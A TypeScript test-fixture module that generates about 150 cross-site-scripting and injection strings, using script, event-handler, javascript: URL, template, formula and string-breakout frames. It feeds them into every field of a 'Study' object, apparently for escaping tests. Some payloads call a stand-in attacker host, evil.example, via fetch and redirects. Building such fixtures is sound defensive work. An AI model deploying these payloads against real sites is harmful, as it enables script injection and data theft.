import type { Study } from "#study/study";

// Strings that would do something if a page took them for anything but text.
const acts = ["alert(1)", "fetch('http://evil.example/')", "location='http://evil.example/'"];
const frames: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `</script><script>${act}</script>`,
  (act) => `<!--<script>${act}//-->`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `"><img src=x onerror=${act}>`,
  (act) => `'><svg onload=${act}>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<a href="javascript:${act}">x</a>`,
  (act) => `[x](javascript:${act})`,
  (act) => `![x](http://evil.example/x.png "${act}")`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<input autofocus onfocus=${act}>`,
  (act) => `<style>@import 'http://evil.example/';</style>${act}`,
  (act) => `<base href="http://evil.example/">${act}`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<math><mtext></table><img src=x onerror=${act}></mtext></math>`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `\u0000<script>${act}</script>`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `&#60;script&#62;${act}`,
  (act) => `\\u003cscript\\u003e${act}`,
  (act) => `<scr\u200bipt>${act}</scr\u200bipt>`,
  (act) => `\u202e<script>${act}</script>\u202c`,
  (act) => `\u2028${act}\u2029`,
  (act) => `{@html "<img src=x onerror=${act}>"}`,
  (act) => `{{constructor.constructor("${act}")()}}`,
  (act) => `\${${act}}`,
  (act) => `$&$'$\`${act}`,
  (act) => `]]><script>${act}</script>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<form action="javascript:${act}"><button autofocus>`,
  (act) => `<link rel=stylesheet href="http://evil.example/${act}">`,
  (act) => `<video src=x onerror=${act}>`,
  (act) => `<body onload=${act}>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `=HYPERLINK("http://evil.example","${act}")`,
  (act) => `*/${act}/*`,
  (act) => `';${act};//`,
  (act) => `";${act};//`,
  (act) => `\\";${act};//`,
  (act) => `<xss style="background:url('http://evil.example/${act}')">`,
  (act) => `<button popovertarget=x onclick=${act}>`,
  (act) => `<p id="page" data-start="p.x=${act}">`,
  (act) => `<script type="application/json" id="parley-data">${act}</script>`,
  (act) => `</title><script>${act}</script>`,
  (act) => `</style><script>${act}</script>`,
];

/** 150 and some of them. */
export const hostileTexts: readonly string[] = [
  ...frames.flatMap((frame) => acts.map(frame)),
  "__proto__",
  "constructor",
  "toString",
  '{"$map":[["a",1]]}',
  '{"$number":"NaN"}',
  "\u0000",
  "\ud800 alone",
  `${"<b>".repeat(300)}deep`,
];

/** A study whose texts and names are taken from a list, one after the other, round and round. */
export function hostileStudy(study: Study, texts: readonly string[]): Study {
  let at = 0;
  const next = (): string => texts[at++ % texts.length];
  const eachOf = <T>(map: ReadonlyMap<string, T>, change: (one: T) => T): ReadonlyMap<string, T> =>
    new Map([...map].map(([key, one]) => [key, change(one)]));
  const title = next();
  const documents = eachOf(study.documents, (one) => {
    const quotes = [...study.claims.values()].filter(({ document }) => document === one.key);
    const text = [...texts, ...quotes.map(({ anchor }) => anchor.exact)].join("\n\n");
    return { ...one, title: next(), author: next(), outlet: next(), date: next(), text };
  });
  const claims = eachOf(study.claims, (one) => ({
    ...one,
    name: next(),
    says: next(),
    unmodelled: one.unmodelled === null ? null : next(),
    about: one.about.map((binding) => ({ ...binding, name: next() })),
  }));
  const premises = eachOf(study.premises, (one) => ({
    ...one,
    name: next(),
    unit: next(),
    why: next(),
    source: next(),
  }));
  const positions = eachOf(study.positions, (one) => ({ ...one, name: next(), label: next() }));
  const policies = eachOf(study.policies, (one) => ({ ...one, name: next(), label: next() }));
  const levers = eachOf(study.levers, (one) => ({
    ...one,
    name: next(),
    unit: next(),
    doc: next(),
  }));
  const outcomes = eachOf(study.outcomes, (one) => ({
    ...one,
    name: next(),
    label: next(),
    unit: next(),
  }));
  const variables = eachOf(study.model.variables, (one) => ({
    ...one,
    name: next(),
    documentation: next(),
  }));
  const model = { ...study.model, name: next(), file: next(), variables };
  return {
    ...study,
    title,
    name: next(),
    file: next(),
    question: next(),
    disclosures: texts,
    limits: texts,
    model,
    documents,
    claims,
    premises,
    positions,
    policies,
    levers,
    outcomes,
  };
}
